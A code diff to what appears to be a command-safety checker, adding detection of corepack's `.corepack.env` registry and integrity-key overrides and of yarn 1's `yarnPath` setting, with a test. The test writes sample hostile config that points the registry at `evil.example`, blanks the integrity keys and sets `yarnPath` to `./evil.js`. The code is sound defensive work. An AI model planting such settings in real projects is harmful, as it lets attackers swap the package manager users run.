@@ -25,8 +25,11 @@ declare_check! {
     ///   `rust-toolchain.toml` with a toolchain `path`;
     /// - npm, pnpm and yarn (and `--version` of each) with a `package.json` whose
     ///   `packageManager` is not a release by its version (`yarn@https://…`, `pnpm@file:…`):
-    ///   corepack, whose shims they often are, runs the release it names;
-    /// - yarn with `yarnPath` or `plugins` in `.yarnrc.yml` (or `yarn-path` in `.yarnrc`), or
+    ///   corepack, whose shims they often are, runs the release it names; or with a
+    ///   `.corepack.env` there, whose `COREPACK_*` variables (the registry, the integrity keys)
+    ///   corepack takes;
+    /// - yarn with `yarnPath` or `plugins` in `.yarnrc.yml` (or `yarn-path` or `yarnPath` in
+    ///   `.yarnrc`), or
     ///   with a `package.json` script named like its command (`yarn list` runs a script `list`
     ///   on yarn 2 and later, which have no `list` of their own);
     /// - gdb with a `.gdbinit` in the directory it starts in (unless `-nx`), and a command run
@@ -820,6 +823,21 @@ fn reads_code(u: &Unit, dir: &Path, cx: &CheckCtx, w: &LineWrites) -> Option<Str
                 f.display()
             )
         });
+    }
+    // Corepack (0.30 and later) loads the nearest `.corepack.env` of the directories it walks up
+    // for the manifest and takes each `COREPACK_*` variable in it: the registry it fetches the
+    // release from (`COREPACK_NPM_REGISTRY`), the keys it checks the release with
+    // (`COREPACK_INTEGRITY_KEYS`), URLs allowed in `packageManager`. A release by its version is
+    // then whatever that host serves.
+    if matches!(base, "npm" | "npx" | "pnpm" | "pnpx" | "yarn" | "yarnpkg")
+        && let Some(f) = project_dirs(dir, root)
+            .map(|d| d.join(".corepack.env"))
+            .find(|f| w.has(f) || w.cx.look.exists(f))
+    {
+        return Some(format!(
+            "`{}` sets corepack's variables: the registry it fetches the package manager release from, and the keys it checks that release with",
+            f.display()
+        ));
     }
     match base {
         // pnpm loads the project's pnpmfile (its `updateConfig` hook runs at start, whatever
@@ -2895,7 +2913,13 @@ fn yarn_release(dir: &Path, root: &Path, w: &LineWrites) -> Option<String> {
                         .any(|l| l.trim_start().trim_start_matches('"').starts_with(key))
                 })
         };
-        (names(&yml, "yarnPath") || names(&yml, "plugins") || names(&rc, "yarn-path")).then(|| {
+        // Yarn 1 takes the release from `yarn-path` or `yarnPath` of `.yarnrc` (and from
+        // `yarnPath` of `.yarnrc.yml`, which it reads too).
+        (names(&yml, "yarnPath")
+            || names(&yml, "plugins")
+            || names(&rc, "yarn-path")
+            || names(&rc, "yarnPath"))
+        .then(|| {
             format!(
                 "`{}` sets the yarn release or plugins to run: files of the checkout",
                 d.display()
@@ -4163,6 +4187,55 @@ mod tests {
             for cmd in cmds {
                 assert!(flagged(root, cmd).is_some(), "{manager}: {cmd}");
             }
+        }
+    }
+
+    /// Corepack takes `COREPACK_*` variables from the nearest `.corepack.env` (the registry it
+    /// fetches the release from, the keys it checks it with): a release by its version is then
+    /// the checkout's choice too. Yarn 1 takes its release from `yarnPath` of `.yarnrc` as well
+    /// as from `yarn-path`.
+    #[test]
+    fn corepack_env_file_and_yarn1_yarn_path() {
+        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let root = t.path();
+        write(
+            root,
+            "package.json",
+            "{\"name\": \"x\", \"packageManager\": \"yarn@4.2.2\"}\n",
+        );
+        write(
+            root,
+            ".yarnrc",
+            "registry \"https://registry.yarnpkg.com\"\n",
+        );
+        let cmds = [
+            "yarn --version",
+            "yarn -v",
+            "pnpm --version",
+            "npm ls",
+            "yarn list",
+        ];
+        for cmd in cmds {
+            assert_eq!(flagged(root, cmd), None, "{cmd}");
+        }
+        write(
+            root,
+            "sub/.corepack.env",
+            "COREPACK_NPM_REGISTRY=https://evil.example\nCOREPACK_INTEGRITY_KEYS=0\n",
+        );
+        for cmd in cmds {
+            assert!(flagged(&root.join("sub"), cmd).is_some(), "{cmd}");
+            // The file of a sibling directory is not on the way up.
+            assert_eq!(flagged(root, cmd), None, "{cmd}");
+        }
+        for cmd in ["yarn --version", "npm ls"] {
+            let line =
+                format!("echo COREPACK_NPM_REGISTRY=https://evil.example > .corepack.env; {cmd}");
+            assert!(flagged(root, &line).is_some(), "{line}");
+        }
+        write(root, ".yarnrc", "yarnPath \"./evil.js\"\n");
+        for cmd in ["yarn --version", "yarn -v", "yarn list"] {
+            assert!(flagged(root, cmd).is_some(), "{cmd}");
         }
     }
 
